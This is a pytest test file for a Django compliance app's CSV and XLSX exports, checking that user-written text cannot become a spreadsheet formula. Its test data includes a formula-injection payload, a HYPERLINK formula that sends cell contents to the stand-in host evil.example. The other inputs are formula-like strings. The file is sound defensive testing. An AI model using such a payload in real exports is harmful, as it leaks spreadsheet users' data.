"""Exports are data: text a person wrote (a directive's title, a reason, a username, an
office's title) never becomes a formula. XLSX cells of text are strings holding exactly
that text; CSV cells of text that begin like a formula (=, +, -, @, tab, carriage return)
start with an apostrophe; numbers the system writes stay numbers."""

import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from compliance import services as compliance_services
from compliance.models import Office, OfficeKind
from pages import exports
from tests.factories import official, regency
from tests.pages.directives_fixtures import body_of, client_for, csv_rows, issue

pytestmark = pytest.mark.django_db
WIB = ZoneInfo("Asia/Jakarta")
TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
USERNAME = "-2+3"  # Django's username rules allow it; a spreadsheet would compute 1
OFFICE_TITLE = "@Bupati Merangin"  # as retitled in the admin
# Reasons typed into the console: each regency flagged with one of them.
REASONS = {
    "15.01": TITLE,
    "15.02": "+62 kepala dinas diangkat tanpa persetujuan Menteri",
    "15.03": "-1 tipe kantor tidak sesuai",
    "15.04": "@SUM(1+1) struktur dinas",
    "15.05": "\tkepala dinas dipindahkan",
    "15.06": "\rkantor tanpa kepala",
}


@pytest.fixture
def officer():
    return official("ministry_officer", username=USERNAME)


@pytest.fixture
def directive(officer):
    Office.objects.filter(kind=OfficeKind.REGENT, regency__code="15.02").update(title=OFFICE_TITLE)
    return issue(officer, {"province": "15"}, title=TITLE)


@pytest.fixture
def flags(officer):
    for day, (code, reason) in enumerate(REASONS.items(), start=1):
        compliance_services.flag_regency(
            regency=regency(code),
            actor=officer,
            kind="hr",
            description=reason,
            legal_basis="UU 24/2013 Pasal 83A",
            at=dt.datetime(2017, 3, day, 10, tzinfo=WIB),
        )


def assignment_export(name, directive, fmt):
    if name == "audit":
        return reverse("audit:assignments", args=[fmt])
    return reverse("directives:export", args=[directive.pk, fmt])


# Each assignment export, read by an auditor and by the officer who issued the directive.
ASSIGNMENT_EXPORTS = pytest.mark.parametrize(
    ("name", "reader"),
    [
        ("audit", "auditor"),
        ("audit", "officer"),
        ("directive", "auditor"),
        ("directive", "officer"),
    ],
)


def reader_client(reader, officer):
    return client_for(official("auditor") if reader == "auditor" else officer)


def xlsx_cells(response):
    """Every cell of the first sheet, with its type (the read-only reader has no types)."""
    workbook = load_workbook(io.BytesIO(body_of(response)))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def column(rows, name):
    """The column `name` of rows of values or of cells."""
    header, *body = rows
    titles = [getattr(title, "value", title) for title in header]
    return [row[titles.index(name)] for row in body]


def no_formulas(cells):
    return [c.coordinate for row in cells for c in row if c.data_type == "f"] == []


@ASSIGNMENT_EXPORTS
def test_a_directive_title_is_text_in_the_xlsx_exports(name, reader, directive, officer):
    response = reader_client(reader, officer).get(assignment_export(name, directive, "xlsx"))
    cells = xlsx_cells(response)
    assert no_formulas(cells)
    values = [[c.value for c in row] for row in cells]
    assert column(values, "Directive title") == [TITLE] * 11
    # Text, and kept text when somebody edits the cell (Excel's quote prefix).
    assert {(c.data_type, c.quotePrefix) for c in column(cells, "Directive title")} == {("s", True)}
    assert OFFICE_TITLE in column(values, "Office")
    # The system's numbers stay numbers.
    assert column(values, "Directive") == [directive.pk] * 11
    assert {c.data_type for c in column(cells, "Escalation level")} == {"n"}


@ASSIGNMENT_EXPORTS
def test_a_directive_title_is_neutralised_in_the_csv_exports(name, reader, directive, officer):
    response = reader_client(reader, officer).get(assignment_export(name, directive, "csv"))
    rows = csv_rows(response)
    assert column(rows, "Directive title") == ["'" + TITLE] * 11
    assert "'" + OFFICE_TITLE in column(rows, "Office")
    assert "Bupati Sarolangun" in column(rows, "Office")  # other text as it is
    assert column(rows, "Directive") == [str(directive.pk)] * 11
    assert set(column(rows, "Escalation level")) == {"0"}


def test_reasons_and_usernames_are_text_in_the_xlsx_transition_log(flags):
    response = client_for(official("auditor")).get(reverse("audit:transitions", args=["xlsx"]))
    cells = xlsx_cells(response)
    assert no_formulas(cells)
    values = [[c.value for c in row] for row in cells]
    # openpyxl writes through lxml (installed with pyHanko), which escapes a carriage return
    # (&#13;): the reason comes back exactly as it was written.
    assert column(values, "Reason") == list(REASONS.values())
    assert column(values, "Actor") == [USERNAME] * len(REASONS)
    assert {c.data_type for c in column(cells, "Reason")} == {"s"}


def test_reasons_and_usernames_are_neutralised_in_the_csv_transition_log(flags):
    response = client_for(official("auditor")).get(reverse("audit:transitions", args=["csv"]))
    rows = csv_rows(response)
    assert column(rows, "Reason") == ["'" + reason for reason in REASONS.values()]
    assert column(rows, "Actor") == ["'" + USERNAME] * len(REASONS)
    assert column(rows, "Regency code") == list(REASONS)  # text that is no formula: as is


def test_numbers_the_system_writes_stay_numbers_even_negative():
    header = ["count", "text"]
    rows = [[-3, "-3"], [0, "=1+1"]]

    csv_text = body_of(exports.table_response("csv", "t", header, rows)).decode("utf-8-sig")
    assert csv_text.splitlines()[1:] == ["-3,'-3", "0,'=1+1"]

    workbook = load_workbook(io.BytesIO(body_of(exports.table_response("xlsx", "t", header, rows))))
    cells = list(workbook.worksheets[0].iter_rows(min_row=2))
    assert [(c.value, c.data_type) for row in cells for c in row] == [
        (-3, "n"),
        ("-3", "s"),
        (0, "n"),
        ("=1+1", "s"),
    ]


def test_a_control_character_xml_cannot_hold_is_replaced_not_a_server_error():
    """A bell (\\x07) pasted into a reason: openpyxl refuses it in XML; the export marks it
    with U+FFFD and keeps the rest. CSV holds it as it is."""
    header, rows = ["text"], [["Kepala Dinas\x07 dimutasi"]]

    workbook = load_workbook(io.BytesIO(body_of(exports.table_response("xlsx", "t", header, rows))))
    assert workbook.worksheets[0]["A2"].value == "Kepala Dinas\ufffd dimutasi"
    csv_text = body_of(exports.table_response("csv", "t", header, rows)).decode("utf-8-sig")
    assert csv_text.splitlines()[1] == "Kepala Dinas\x07 dimutasi"
